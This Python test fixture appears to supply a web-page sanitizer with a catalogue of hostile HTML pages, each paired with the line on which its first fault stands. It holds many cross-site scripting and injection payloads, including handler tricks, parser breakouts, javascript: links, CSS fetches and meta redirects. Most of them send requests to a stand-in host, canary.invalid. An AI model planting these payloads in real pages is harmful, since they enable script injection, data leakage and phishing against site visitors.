"""Pages of the web that try to run, fetch, send or lead away: each is refused where it is published, and inert anyway.

`CANARY` stands for an address that must never be asked for anything, `RUN` for a program that would ask it.
"""

import base64
from collections.abc import Mapping

CANARY = "http://canary.invalid/"
RUN = f"fetch('{CANARY}f');new Image().src='{CANARY}i';alert(1);top.location='{CANARY}t'"
_B64 = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
_SVG = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>'.encode()).decode()


def page(body: str = "", head: str = "") -> str:
    """A page with the bad on its fourth line (in the head) or its sixth (in the body)."""
    return f'<!doctype html>\n<html lang="nl">\n<head><title>Rapport</title>\n{head}\n</head><body><h1>Rapport</h1>\n{body}\n</body></html>\n'


BODIES: Mapping[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT >",
    "script from outside": f'<script src="{CANARY}s.js"></script>',
    "script as a module": f'<script type="module">import "{CANARY}m.js"</script>',
    "script that never ends": f"<script>{RUN}",
    "script after a slash": f"<script/x>{RUN}</script>",
    "script in a table": f"<table><script>{RUN}</script></table>",
    "onerror": f'<img src="data:image/png;base64,AAAA" onerror="{RUN}">',
    "onload of the body": f'<body onload="{RUN}">',
    "onfocus by itself": f'<p tabindex="0" autofocus onfocus="{RUN}">x</p>',
    "ontoggle": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "onclick": f'<p onclick="{RUN}">Klik</p>',
    "handler after a slash": f'<img/src="data:image/png;base64,AAAA"/onerror="{RUN}">',
    "handler without quotes": "<img src=data:image/png;base64,AAAA onerror=alert(1)>",
    "handler after a line": f'<p\nonmouseover\n=\n"{RUN}">x</p>',
    "animation that begins": f'<style>@keyframes a {{}}</style><p style="animation:a 1s" onanimationstart="{RUN}">x</p>',
    "svg with a script": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>',
    "svg with a handler": f'<svg onload="{RUN}"></svg>',
    "svg that animates a link": f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/><text y="20">x</text></a></svg>',
    "svg that uses another": f'<svg><use href="{CANARY}u.svg#x"/></svg>',
    "svg with a picture": f'<svg><image href="{CANARY}i.svg" width="9" height="9"/></svg>',
    "svg with a page in it": f'<svg><foreignObject><iframe src="{CANARY}fo"></iframe></foreignObject></svg>',
    "svg style that breaks out": f'<svg><style><img src=x onerror="{RUN}"></style></svg>',
    "math that breaks out": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    "noscript that breaks out": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></p></noscript>',
    "title that breaks out": f'<title><a title="</title><img src=x onerror={RUN}>"></title>',
    "comment that ends at once": f'<!--><img src=x onerror="{RUN}">-->',
    "comment that ends oddly": f'<!-- x --!><img src=x onerror="{RUN}"> -->',
    "comment for old browsers": f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "processing instruction": f'<?xml-stylesheet href="{CANARY}x.css"?>',
    "link that runs": f'<a href="javascript:{RUN}">Klik</a>',
    "link that runs, in letters": f'<a href="&#106;ava&#x73;cript:{RUN}">Klik</a>',
    "link that runs, with a tab": f'<a href="java\tscript:{RUN}">Klik</a>',
    "link that runs, after a sign": f'<a href="\x01javascript:{RUN}">Klik</a>',
    "link to a page of data": f'<a href="data:text/html;base64,{_B64}">Klik</a>',
    "link to outside": f'<a href="{CANARY}a" target="_top">Klik</a>',
    "link to outside in a new window": f'<a href="{CANARY}a" target="_blank" rel="opener">Klik</a>',
    "link without a scheme": f'<a href="//{CANARY[7:]}">Klik</a>',
    "link that pings": f'<a href="#x" ping="{CANARY}p">Klik</a>',
    "link that downloads": f'<a href="{CANARY}d" download>Klik</a>',
    "link to the portal": '<a href="/uitloggen">Klik</a>',
    "map with a link": f'<map name="m"><area href="{CANARY}m" shape="default"></map><img usemap="#m" src="data:image/png;base64,AAAA">',
    "form": f'<form action="{CANARY}form" method="post"><button>Klik</button></form>',
    "form of the portal": '<form action="/uitloggen" method="post"><button>Klik</button></form>',
    "button that sends elsewhere": f'<form><button formaction="{CANARY}b">Klik</button></form>',
    "box to type in": '<input name="wachtwoord" type="password">',
    "iframe": f'<iframe src="{CANARY}frame"></iframe>',
    "iframe with its own page": f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
    "object": f'<object data="{CANARY}o" type="text/html"></object>',
    "object with a page of data": f'<object data="data:text/html;base64,{_B64}"></object>',
    "embed": f'<embed src="{CANARY}e">',
    "portal": f'<portal src="{CANARY}p"></portal>',
    "picture from outside": f'<img src="{CANARY}img.png" alt="">',
    "picture without quotes": f"<img src={CANARY}img.png>",
    "picture of several sizes": f'<img srcset="{CANARY}1x.png 1x" src="data:image/png;base64,AAAA">',
    "picture that is a drawing": f'<img src="data:image/svg+xml;base64,{_SVG}">',
    "picture of the portal": '<img src="/static/icons/favicon.svg">',
    "video": f'<video autoplay src="{CANARY}v.mp4" poster="{CANARY}v.png"></video>',
    "audio with a source": f'<audio autoplay><source src="{CANARY}a.mp3"></audio>',
    "background of old": f'<table background="{CANARY}bg.png"><tr><td>x</td></tr></table>',
    "style that fetches": f'<p style="background:url({CANARY}st)">x</p>',
    "style that fetches, escaped": f'<p style="background:\\75 rl({CANARY}st)">x</p>',
    "style that fetches, in comments": f"<p style=\"background:u/**/rl({CANARY}st);list-style:url('{CANARY}l')\">x</p>",
    "style that runs": f'<p style="width:expression({RUN})">x</p>',
    "style of a set": f"<p style=\"background:image-set('{CANARY}set' 1x)\">x</p>",
    "drawing filled from outside": f'<svg><rect width="9" height="9" fill="url({CANARY}f.svg#a)"/></svg>',
    "template with a shadow": f'<div><template shadowrootmode="open"><img src="{CANARY}sh"></template></div>',
    "element of one's own": f'<x-y style="background:url({CANARY}x)">x</x-y>',
    "dialog that opens": "<dialog open><p>U bent uitgelogd. Bel dit nummer.</p></dialog>",
    "frameset": f'<frameset><frame src="{CANARY}fs"></frameset>',
    "text area that breaks out": f'<textarea><a title="</textarea><img src=x onerror={RUN}>"></textarea>',
}
HEADS: Mapping[str, str] = {
    "base": f'<base href="{CANARY}">',
    "base with a target": '<base target="_top">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={CANARY}r">',
    "refresh in capitals": f'<META HTTP-EQUIV=" Refresh " CONTENT="0; URL={CANARY}r">',
    "policy of its own": '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
    "cookie": '<meta http-equiv="set-cookie" content="a=b">',
    "other letters": '<meta charset="utf-7">',
    "other letters of old": '<meta http-equiv="content-type" content="text/html; charset=iso-2022-jp">',
    "stylesheet from outside": f'<link rel="stylesheet" href="{CANARY}c.css">',
    "address looked up beforehand": f'<link rel="dns-prefetch" href="{CANARY}"><link rel="preconnect" href="{CANARY}">',
    "page fetched beforehand": f'<link rel="prefetch" href="{CANARY}pf"><link rel="modulepreload" href="{CANARY}mp">',
    "icon": f'<link rel="icon" href="{CANARY}icon">',
    "manifest": f'<link rel="manifest" href="{CANARY}manifest">',
    "style that imports": f'<style>@import "{CANARY}css";</style>',
    "style with letters": f'<style>@font-face {{ font-family: x; src: url("{CANARY}font") }} h1 {{ font-family: x }}</style>',
    "style with a background": f"<style>h1 {{ background: url({CANARY}bg) }}</style>",
    "style with a cursor": f"<style>h1 {{ cursor: url('{CANARY}cur'), auto }}</style>",
    "speculation": f'<script type="speculationrules">{{"prerender":[{{"source":"list","urls":["{CANARY}sp"]}}]}}</script>',
    "opener by name": '<meta name="referrer" content="unsafe-url">',
}
HOSTILE: Mapping[str, tuple[str, int]] = {
    **{name: (page(body), 6) for name, body in BODIES.items()},
    **{name: (page(head=head), 4) for name, head in HEADS.items()},
}
"""Each page, and the line on which its first fault stands."""
